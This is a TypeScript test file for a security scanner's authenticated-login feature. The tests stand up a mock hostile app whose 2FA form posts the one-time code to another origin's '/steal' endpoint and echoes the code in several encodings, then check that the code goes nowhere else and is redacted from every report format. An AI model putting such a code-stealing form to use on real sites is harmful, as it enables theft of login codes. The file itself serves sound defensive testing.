import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { test } from 'node:test'
import { render, scan } from '@sessionguard/scanner'
import * as apps from '@sessionguard/testkit'

// A hostile second step: the code form posts to another origin, and every answer echoes the code it
// was sent (as typed, base64, hex, percent-encoded, in a header and in a redirect's query). The code
// must reach the target only, and no report may carry it in any of those forms.

const FORMATS = ['pretty', 'json', 'sarif', 'junit', 'markdown', 'html'] as const

const secret = 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP'
const key = Buffer.from('48656c6c6f21deadbeef48656c6c6f21deadbeef', 'hex')
// the account page shows the enrolled secret the ways apps and debug pages do
const secretShown = [
  'jbsw y3dp ehpk 3pxp jbsw y3dp ehpk 3pxp',
  key.toString('hex'),
  key.toString('base64'),
  key.toString('base64url'),
  Buffer.from(secret).toString('base64'),
]

/** The hostile app: its code form posts to `elsewhere`; codes that reach the target are listed in `codes`. */
async function startHostileCodeApp(elsewhere: apps.Elsewhere): Promise<{ app: apps.HostileApp; codes: string[] }> {
  const sessions = new Map<string, 'half' | 'full'>()
  const codes: string[] = []
  const sid = (cookie: string | string[] | undefined): string | undefined => /sid=([^;]+)/.exec(String(cookie ?? ''))?.[1]
  const route = (req: IncomingMessage, res: ServerResponse, body: string): unknown => {
    const u = new URL(req.url ?? '/', 'http://x')
    const state = sessions.get(sid(req.headers.cookie) ?? '')
    const html = (s: string, status = 200, headers: Record<string, string> = {}) =>
      res.writeHead(status, { 'content-type': 'text/html', ...headers }).end(`<!doctype html><html><body>${s}</body></html>`)
    if (u.pathname === '/login' && req.method === 'GET')
      return html(
        '<form method="post" action="/login"><input name="username"><input type="password" name="password"><button>Go</button></form>',
      )
    if (u.pathname === '/login') {
      if (!new URLSearchParams(body).get('password')?.startsWith('alice-password')) return html('no', 401)
      const id = randomBytes(16).toString('hex')
      sessions.set(id, 'half')
      return res.writeHead(303, { location: '/2fa', 'set-cookie': `sid=${id}; Path=/; HttpOnly` }).end()
    }
    if (u.pathname === '/2fa' && req.method === 'GET' && state)
      return html(
        `<form method="post" action="${elsewhere.url}/steal"><input name="code" autocomplete="one-time-code"><button>Verify</button></form>`,
      )
    if (u.pathname === '/2fa' && req.method === 'POST' && state) {
      const code = new URLSearchParams(body).get('code') ?? ''
      codes.push(code)
      // the half-authenticated id becomes the signed-in one (SG-FIX-MFA): the echoes are part of its proof
      sessions.set(sid(req.headers.cookie)!, 'full')
      const echo = `${code} ${Buffer.from(code).toString('base64')} ${Buffer.from(code).toString('hex')} ${encodeURIComponent(`c=${code}`)}`
      return res.writeHead(303, { location: `/account?echo=${code}`, 'x-echo': echo }).end(echo)
    }
    if (u.pathname === '/account' && state === 'full')
      return html(`<p>Welcome alice</p><p>you typed ${u.searchParams.get('echo') ?? ''}</p><p>your key: ${secretShown.join(' | ')}</p>`)
    if (u.pathname === '/logout') return res.writeHead(303, { location: '/login' }).end()
    return res.writeHead(302, { location: '/login' }).end()
  }
  const app = await apps.startHostileApp((req, res, body) => {
    route(req, res, body)
  })
  return { app, codes }
}

test('a code form that posts elsewhere and pages that echo the code: the code stays on the target and out of every report', async () => {
  const elsewhere = await apps.startElsewhere()
  const { app, codes } = await startHostileCodeApp(elsewhere)
  try {
    const report = await scan({
      target: app.url,
      login: {
        page: '/login',
        url: '/login',
        credentials: { username: 'alice', password: 'alice-password-1', totp_secret: secret },
        mfa: { type: 'totp' },
        check: { url: '/account', contains: 'Welcome alice' },
      },
    })
    assert.ok(codes.length >= 2, 'the scan logged in with codes')
    assert.equal(elsewhere.hits, 0, 'nothing was sent to the origin the code form named')
    assert.ok(!app.sent().includes(secret), 'the TOTP secret itself never leaves the scanner')
    const everything = FORMATS.map((f) => render(report, f)).join('\n')
    assert.ok(
      report.findings.some((f) => f.id === 'SG-FIX-MFA'),
      'the proof holds the code post and its echoes',
    )
    assert.match(render(report, 'json'), /x-echo/)
    for (const code of new Set(codes)) {
      // codes are registered as passwords are: hex and the deeper forms follow the redactor's password forms (issue 23)
      for (const form of [code, Buffer.from(code).toString('base64'), Buffer.from(code).toString('hex'), encodeURIComponent(`c=${code}`)])
        assert.ok(!everything.includes(form), `code ${code} appears in a report as ${form}`)
    }
    assert.match(render(report, 'json'), /your key: /, 'the page that shows the key is in the proof')
    for (const form of [secret, ...secretShown]) assert.ok(!everything.includes(form), `the TOTP secret appears in a report as ${form}`)
  } finally {
    await app.close()
    await elsewhere.close()
  }
})

test('in the browser, a code form that posts to another origin gets nothing: the login stops and the code reached no one', async () => {
  const elsewhere = await apps.startElsewhere()
  const { app, codes } = await startHostileCodeApp(elsewhere)
  try {
    const failed = await scan({
      target: app.url,
      login: {
        type: 'browser',
        page: '/login',
        url: '/login',
        credentials: { username: 'alice', password: 'alice-password-1', totp_secret: secret },
        mfa: { type: 'totp' },
        check: { url: '/account', contains: 'Welcome alice' },
      },
    }).then(
      () => undefined,
      (err: Error) => err,
    )
    assert.ok(failed, 'the login cannot complete without the code reaching the target')
    assert.equal(elsewhere.hits, 0, 'the browser sent nothing to the origin the code form named')
    assert.equal(codes.length, 0, 'the form posted elsewhere, so the target got no code either')
    assert.ok(!failed.message.includes(secret))
  } finally {
    await app.close()
    await elsewhere.close()
  }
})
